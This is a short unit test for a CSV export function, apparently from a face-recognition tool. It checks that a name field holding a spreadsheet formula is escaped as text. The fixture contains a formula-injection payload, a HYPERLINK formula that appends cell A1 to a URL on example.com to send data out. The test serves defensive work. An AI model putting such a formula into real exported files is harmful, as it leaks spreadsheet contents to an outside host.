import { expect, test } from 'vitest';
import { resultLines } from './resultLines';

test('a name from somebody else reaches a spreadsheet as text, not as a formula', () => {
  const face = {
    face_id: 1,
    person_id: 2,
    name: '=HYPERLINK("http://example.com/?"&A1,"Ada")',
    trust: 71.5,
    unique_args: null,
    also: false,
    position: { top: 1, left: 2, bottom: 3, right: 4 },
  };
  expect(resultLines({ file: '-a,b.jpg', at: 1.5, faces: [face] }, 'csv')).toEqual([
    `"'-a,b.jpg",1.5,1,2,"'=HYPERLINK(""http://example.com/?""&A1,""Ada"")",71.5,1,2,3,4`,
  ]);
});
